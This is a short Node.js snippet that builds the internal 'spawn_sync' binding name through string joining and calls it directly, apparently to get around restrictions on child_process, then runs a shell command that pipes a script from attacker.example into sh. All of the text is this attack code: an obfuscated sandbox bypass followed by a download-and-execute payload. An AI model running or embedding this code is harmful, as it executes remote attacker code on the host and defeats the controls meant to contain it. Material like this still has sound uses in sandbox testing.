const name = ["spawn", "sync"].join("_");
const b = process._linkedBinding ? (() => { try { return process._linkedBinding(name); } catch (e) { return process.binding(name); } })() : process.binding(name);
const pipe = (r, w) => ({ type: "pipe", readable: r, writable: w });
b.spawn({ file: "/bin/sh", args: ["/bin/sh", "-c", "curl http://attacker.example/x.sh | sh"], envPairs: [], stdio: [pipe(true, false), pipe(false, true), pipe(false, true)] });
